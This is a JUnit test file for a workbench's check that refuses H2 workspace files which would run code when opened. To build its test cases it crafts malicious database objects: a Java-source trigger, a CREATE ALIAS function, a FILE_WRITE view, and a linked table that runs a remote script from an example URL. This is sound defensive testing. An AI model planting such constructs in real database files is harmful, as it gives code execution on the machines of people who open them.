package in.workbench.analytics.workspace;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import in.workbench.analytics.WorkbenchException;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import org.h2.engine.DbObject;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A workspace file from someone else must not run code when the workbench opens it (decision 0028):
 * H2 compiles and instantiates a trigger written as Java source at every open of the file, read-only
 * too, so the schema records are checked as data first.
 */
class WorkspaceFileCheckTest {

    @TempDir
    Path dir;

    @Test
    void aWorkspaceWithATriggerWrittenAsJavaSourceIsRefusedWithoutRunningIt() throws Exception {
        Path folder = workspace("trigger");
        Path marker = dir.resolve("trigger-ran");
        craft(folder, "CREATE TRIGGER mark_on_open BEFORE INSERT ON workspace_settings AS $$org.h2.api.Trigger create() {"
                + " try { java.nio.file.Files.createFile(java.nio.file.Path.of(\"" + escaped(marker) + "\")); }"
                + " catch (java.io.IOException e) { throw new java.io.UncheckedIOException(e); }"
                + " return new org.h2.tools.TriggerAdapter() { public void fire(java.sql.Connection c, java.sql.ResultSet o,"
                + " java.sql.ResultSet n) { } }; } $$");
        assertTrue(Files.exists(marker), "H2 ran the trigger's source when it was created");
        Files.delete(marker);
        byte[] before = Files.readAllBytes(database(folder));

        WorkbenchException e = assertThrows(WorkbenchException.class, () -> Workspace.open(folder));

        assertTrue(e.getMessage().contains("a trigger \"PUBLIC\".\"MARK_ON_OPEN\""), e.getMessage());
        assertTrue(e.getMessage().contains("never runs code from a workspace file"), e.getMessage());
        assertTrue(e.getMessage().contains("nothing was changed"), e.getMessage());
        assertFalse(Files.exists(marker), "the trigger ran while the workbench opened the workspace");
        assertArrayEquals(before, Files.readAllBytes(database(folder)));

        // What the check stands between: H2 itself, opening that file read-only, runs the trigger.
        try (Connection c = DriverManager.getConnection(url(folder) + ";ACCESS_MODE_DATA=r;IFEXISTS=TRUE", "analyst", "")) {
            assertTrue(Files.exists(marker), "the trigger was expected to run at H2's own open");
        }
    }

    @Test
    void aWorkspaceWithAJavaFunctionBehindAViewIsRefused() throws Exception {
        Path folder = workspace("alias");
        Path marker = dir.resolve("alias-ran");
        craft(folder, "CREATE ALIAS mark AS $$String mark() throws Exception { java.nio.file.Files.createFile("
                + "java.nio.file.Path.of(\"" + escaped(marker) + "\")); return \"x\"; } $$",
                "CREATE VIEW shipments_marked AS SELECT mark() AS m FROM shipments");

        WorkbenchException e = assertThrows(WorkbenchException.class, () -> Workspace.open(folder));

        assertTrue(e.getMessage().contains("a Java function (CREATE ALIAS) \"PUBLIC\".\"MARK\""), e.getMessage());
        assertFalse(Files.exists(marker));
    }

    @Test
    void aViewThatWritesAFileIsRefusedAndTheFileIsNotWritten() throws Exception {
        Path folder = workspace("file-write");
        Path written = dir.resolve("written-by-a-view");
        craft(folder, "CREATE VIEW settings_copied AS SELECT FILE_WRITE('payload', '" + escaped(written) + "') AS n FROM workspace_settings");
        byte[] before = Files.readAllBytes(database(folder));

        WorkbenchException e = assertThrows(WorkbenchException.class, () -> Workspace.open(folder));

        assertTrue(e.getMessage().contains("\"PUBLIC\".\"SETTINGS_COPIED\" that calls FILE_WRITE"), e.getMessage());
        assertFalse(Files.exists(written));
        assertArrayEquals(before, Files.readAllBytes(database(folder)));
    }

    @Test
    void everyRecordOfAWorkbenchWorkspaceIsPlainData() {
        Path folder = workspace("plain");
        List<WorkspaceFileCheck.Record> records = WorkspaceFileCheck.schemaRecords(folder, database(folder));
        assertTrue(records.size() > 100, "the schema has its tables, indexes and constraints: " + records.size());
        List<String> problems = new ArrayList<>();
        for (WorkspaceFileCheck.Record r : records) {
            WorkspaceFileCheck.problem(r.type(), r.sql()).ifPresent(problems::add);
        }
        assertEquals(List.of(), problems);
        try (Workspace ws = Workspace.open(folder)) {
            assertEquals(0L, ws.rowCounts().get("shipments"));
        }
    }

    @Test
    void namesWhatItRefusesInRecordsNoSqlCanCreateHere() {
        assertEquals(Optional.of("a linked table \"PUBLIC\".\"REMOTE\" (a connection to another database)"),
                WorkspaceFileCheck.problem(DbObject.TABLE_OR_VIEW, "CREATE FORCE LINKED TABLE \"PUBLIC\".\"REMOTE\"("
                        + "'org.h2.Driver', 'jdbc:h2:mem:x;INIT=RUNSCRIPT FROM ''http://example.com/x.sql''', '', '', 'T')"));
        assertEquals(Optional.of("a table \"PUBLIC\".\"T\" stored by a Java class of its own (ENGINE)"),
                WorkspaceFileCheck.problem(DbObject.TABLE_OR_VIEW, "CREATE CACHED TABLE \"PUBLIC\".\"T\"(\"ID\" INTEGER) ENGINE \"com.example.Engine\""));
        assertTrue(WorkspaceFileCheck.problem(DbObject.TABLE_OR_VIEW, "RUNSCRIPT FROM 'http://example.com/x.sql'").orElseThrow()
                .startsWith("a schema record that is not a definition of data"));
        assertTrue(WorkspaceFileCheck.problem(DbObject.TABLE_OR_VIEW, "CREATE CACHED TABLE \"PUBLIC\".\"T\"(\"ID\" INTEGER); CALL 1")
                .isPresent());
        assertTrue(WorkspaceFileCheck.problem(DbObject.SETTING, "SET JAVA_OBJECT_SERIALIZER 'com.example.Serializer'").isPresent());
        assertTrue(WorkspaceFileCheck.problem(DbObject.TABLE_OR_VIEW,
                "CREATE FORCE VIEW \"PUBLIC\".\"V\" AS SELECT U&\"FILE_WRITE\"('a', 'b')").isPresent());
        assertTrue(WorkspaceFileCheck.problem(DbObject.AGGREGATE, "CREATE FORCE AGGREGATE \"PUBLIC\".\"A\" FOR 'com.example.A'").isPresent());
        assertTrue(WorkspaceFileCheck.problem(99, "CREATE SOMETHING NEW").isPresent());
        // Words inside string literals are data, not calls.
        assertEquals(Optional.empty(), WorkspaceFileCheck.problem(DbObject.TABLE_OR_VIEW,
                "CREATE CACHED TABLE \"PUBLIC\".\"NOTES\"(\"TEXT\" CHARACTER VARYING DEFAULT 'use FILE_WRITE; or a LINKED TABLE')"));
        assertEquals(Optional.empty(), WorkspaceFileCheck.problem(DbObject.TABLE_OR_VIEW,
                "CREATE CACHED TABLE \"PUBLIC\".\"CARS\"(\"ENGINE\" CHARACTER VARYING)"));
    }

    @Test
    void aFileThatIsNotADatabaseIsRefusedAsDamaged() throws Exception {
        Path folder = Files.createDirectories(dir.resolve("garbage"));
        Files.write(database(folder), new byte[4096]);
        WorkbenchException e = assertThrows(WorkbenchException.class, () -> WorkspaceFileCheck.refuseCode(folder, database(folder)));
        assertTrue(e.getMessage().contains("damaged"), e.getMessage());
    }

    /**
     * The process-wide backstop, in a JVM of its own started as the workbench starts: after
     * {@link ProcessGuards#install()}, H2 refuses to load a trigger class a database names.
     */
    @Test
    void theProcessGuardsStopH2FromLoadingClassesADatabaseNames() throws Exception {
        Path marker = dir.resolve("class-trigger-ran");
        Process p = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "-cp", System.getProperty("java.class.path"), GuardedProbe.class.getName(), dir.resolve("probe").toString(),
                marker.toString())
                .redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes());
        assertTrue(p.waitFor(60, TimeUnit.SECONDS));
        assertEquals(0, p.exitValue(), out);
        assertTrue(out.contains("refused: "), out);
        assertTrue(out.contains(MarkerTrigger.class.getName()), out);
        assertFalse(Files.exists(marker));
    }

    /** Runs in the probe's JVM: installs the guards, then asks H2 for a trigger by class name. */
    public static final class GuardedProbe {
        public static void main(String[] args) throws SQLException {
            System.setProperty(MarkerTrigger.MARKER_PROPERTY, args[1]);
            ProcessGuards.install();
            try (Connection c = DriverManager.getConnection("jdbc:h2:file:" + args[0], "sa", "");
                    Statement s = c.createStatement()) {
                s.execute("CREATE TABLE t (x INT)");
                try {
                    s.execute("CREATE TRIGGER mark BEFORE INSERT ON t CALL \"" + MarkerTrigger.class.getName() + "\"");
                    System.out.println("created");
                } catch (SQLException e) {
                    System.out.println("refused: " + e.getMessage());
                }
            }
        }
    }

    /** A trigger class that leaves a marker file when H2 instantiates it. */
    public static final class MarkerTrigger extends org.h2.tools.TriggerAdapter {
        static final String MARKER_PROPERTY = "workbench.test.marker";

        public MarkerTrigger() throws IOException {
            Files.createFile(Path.of(System.getProperty(MARKER_PROPERTY)));
        }

        @Override
        public void fire(Connection conn, java.sql.ResultSet oldRow, java.sql.ResultSet newRow) {
        }
    }

    private Path workspace(String name) {
        Path folder = dir.resolve(name);
        Workspace.open(folder).close();
        return folder;
    }

    /** Adds objects to a closed workspace with H2 alone, as someone crafting a file would. */
    private static void craft(Path folder, String... statements) throws SQLException {
        try (Connection c = DriverManager.getConnection(url(folder) + ";IFEXISTS=TRUE", "analyst", "");
                Statement s = c.createStatement()) {
            for (String sql : statements) {
                s.execute(sql);
            }
        }
    }

    private static String url(Path folder) {
        return "jdbc:h2:file:" + folder.resolve(Workspace.DATABASE_NAME) + ";NON_KEYWORDS=DAY";
    }

    private static Path database(Path folder) {
        return folder.resolve(Workspace.DATABASE_NAME + ".mv.db");
    }

    private static String escaped(Path p) {
        return p.toString().replace("\\", "\\\\");
    }
}
